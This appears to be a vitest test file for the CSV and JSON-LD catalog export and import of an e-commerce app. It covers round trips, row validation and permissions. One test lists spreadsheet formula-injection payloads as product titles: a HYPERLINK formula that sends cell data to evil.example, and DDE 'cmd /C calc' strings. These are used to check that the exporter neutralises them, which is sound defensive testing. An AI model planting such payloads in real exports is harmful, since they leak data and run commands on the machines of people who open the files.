import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildSekat, type Sekat } from '../../../server/app.js';
import { testConfig, disposeTestConfig, STORE_LABEL } from '../../../platform/testing.js';
import type { Config } from '../../../platform/config.js';
import { listProduct, openShop, registerUser, storeSnapshot, type TestUser } from '../testkit.js';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { neutraliseCell, readCell } from './portability.js';

let config: Config;
let sekat: Sekat;
let seller: TestUser;
let stranger: TestUser;
let shop: { id: string };
let secondShop: { id: string };

beforeAll(async () => {
  config = testConfig();
  sekat = await buildSekat(config, { background: false });
  seller = await registerUser(sekat.app, 'seller');
  stranger = await registerUser(sekat.app, 'stranger');
  shop = await openShop(sekat.app, seller);
  secondShop = await openShop(sekat.app, seller);
  await listProduct(sekat.app, seller, shop.id, [{ stock: 5, priceIdr: 150_000 }, { stock: 0, priceIdr: 175_000 }]);
  await listProduct(sekat.app, seller, shop.id, [{ stock: 3, priceIdr: 99_000 }], { title: 'Tas, "anyaman"', externalUrl: 'https://toko-luar.example/tas' });
});

afterAll(async () => {
  await sekat.close();
  await disposeTestConfig(config);
});

const importCsv = (shopId: string, text: string, who = seller) =>
  sekat.app.inject({ method: 'POST', url: `/api/commerce/shops/${shopId}/import`, headers: { ...who.headers, 'content-type': 'text/csv' }, payload: text });

describe(`catalog export and import (${STORE_LABEL})`, () => {
  it('exports CSV that imports into another shop as the same catalog', async () => {
    const exported = await sekat.app.inject({ url: `/api/commerce/shops/${shop.id}/export?format=csv`, headers: seller.headers });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toContain('text/csv');
    const lines = exported.body.trim().split('\n');
    expect(lines[0]).toBe('product_ref,title,description,category,image_urls,external_url,sku,variant_name,price_idr,stock,weight_grams');
    expect(lines).toHaveLength(4);
    expect(exported.body).toContain('"Tas, ""anyaman"""');
    // SKUs are unique per shop, so the copy goes to a second shop of the same seller.
    const imported = await importCsv(secondShop.id, exported.body);
    expect(imported.statusCode).toBe(201);
    expect(imported.json()).toEqual({ products: 2, variants: 3 });
    const again = await sekat.app.inject({ url: `/api/commerce/shops/${secondShop.id}/export?format=csv`, headers: seller.headers });
    const strip = (csv: string) => csv.trim().split('\n').slice(1).map((line) => line.split(',').slice(1).join(',')).sort();
    expect(strip(again.body)).toEqual(strip(exported.body));
  });

  it('exports schema.org JSON-LD with offers in rupiah', async () => {
    const res = await sekat.app.inject({ url: `/api/commerce/shops/${shop.id}/export?format=jsonld`, headers: seller.headers });
    expect(res.statusCode).toBe(200);
    const doc = JSON.parse(res.body);
    expect(doc['@context']).toBe('https://schema.org');
    expect(doc.itemListElement).toHaveLength(2);
    const product = doc.itemListElement[0].item;
    expect(product['@type']).toBe('Product');
    expect(product.offers).toEqual([
      expect.objectContaining({ '@type': 'Offer', price: 150_000, priceCurrency: 'IDR', availability: 'https://schema.org/InStock' }),
      expect.objectContaining({ price: 175_000, availability: 'https://schema.org/OutOfStock' }),
    ]);
    expect(doc.itemListElement[1].item.url).toBe('https://toko-luar.example/tas');
  });

  it('reports every bad row and imports nothing', async () => {
    const before = await storeSnapshot(sekat.stores.commerce.db);
    const csv = [
      'product_ref,title,description,category,image_urls,external_url,sku,variant_name,price_idr,stock,weight_grams',
      'a,Kaos Polos,,fashion,,,KP-1,S,50000,10,200',
      'a,Kaos Polos,,fashion,,,KP-1,M,50000,10,200',
      'b,,,mainan,,,KP-3,M,-5,1.5,0',
      'c,Sepatu,,fashion,not-a-url,,KP-4,42,99000,2,800',
    ].join('\n');
    const res = await importCsv(shop.id, csv);
    expect(res.statusCode).toBe(422);
    const errors = res.json().errors as Record<string, string[]>;
    expect(Object.keys(errors).sort()).toEqual(
      ['rows.3.sku', 'rows.4.category', 'rows.4.price_idr', 'rows.4.stock', 'rows.4.title', 'rows.4.weight_grams', 'rows.5.image_urls'].sort(),
    );
    expect(await storeSnapshot(sekat.stores.commerce.db)).toBe(before);
  });

  it('refuses a SKU the shop already has, empty files, broken CSV and other people', async () => {
    const before = await storeSnapshot(sekat.stores.commerce.db);
    const exported = (await sekat.app.inject({ url: `/api/commerce/shops/${shop.id}/export?format=csv`, headers: seller.headers })).body;
    const taken = await importCsv(shop.id, exported);
    expect(taken.statusCode).toBe(422);
    expect(Object.keys(taken.json().errors).every((k) => k.endsWith('.sku'))).toBe(true);
    expect((await importCsv(shop.id, '')).statusCode).toBe(422);
    expect((await importCsv(shop.id, 'title,sku\n"unclosed,x')).statusCode).toBe(422);
    expect((await importCsv(shop.id, exported, stranger)).statusCode).toBe(403);
    expect((await sekat.app.inject({ url: `/api/commerce/shops/${shop.id}/export`, headers: stranger.headers })).statusCode).toBe(403);
    expect((await sekat.app.inject({ url: `/api/commerce/shops/${shop.id}/export?format=xml`, headers: seller.headers })).statusCode).toBe(400);
    expect(await storeSnapshot(sekat.stores.commerce.db)).toBe(before);
  });

  it('exports formula-looking text behind a quote and imports it back exactly', async () => {
    const formulaShop = await openShop(sekat.app, seller);
    const copyShop = await openShop(sekat.app, seller);
    const titles = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', "'=sudah dikutip", "'biasa"];
    for (const [i, title] of titles.entries()) {
      await listProduct(sekat.app, seller, formulaShop.id, [{ stock: 1, priceIdr: 10_000 + i }], { title, description: `=1+${i}` });
    }
    const exported = await sekat.app.inject({ url: `/api/commerce/shops/${formulaShop.id}/export?format=csv`, headers: seller.headers });
    const rows = parse(exported.body, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.title).sort()).toEqual(["'" + titles[0], "'" + titles[1], "'" + titles[2], "'" + titles[3], "''=sudah dikutip", "'biasa"].sort());
    // No cell a spreadsheet would run; prices stay plain numbers.
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(row.description).toMatch(/^'=1\+\d$/);
      expect(row.price_idr).toMatch(/^1000\d$/);
    }
    expect((await importCsv(copyShop.id, exported.body)).statusCode).toBe(201);
    const copied = await sekat.app.inject({ url: `/api/commerce/shops/${copyShop.id}/export?format=jsonld`, headers: seller.headers });
    const items = JSON.parse(copied.body).itemListElement.map((e: { item: { name: string; description: string } }) => e.item);
    expect(items.map((item: { name: string }) => item.name).sort()).toEqual([...titles].sort());
    expect(items.map((item: { description: string }) => item.description).sort()).toEqual(titles.map((_, i) => `=1+${i}`).sort());
  });

  it('neutralises every cell that starts a formula, tab and carriage return included, and reads it back', () => {
    for (const cell of ['=1', '+1', '-1', '@1', '\t=1', '\r=1']) expect(neutraliseCell(cell)).toBe(`'${cell}`);
    expect(neutraliseCell('Kemeja')).toBe('Kemeja');
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', ' ') }), (text) => {
        expect(neutraliseCell(text)).not.toMatch(/^[=+\-@\t\r]/);
        expect(readCell(neutraliseCell(text))).toBe(text);
      }),
    );
  });
});
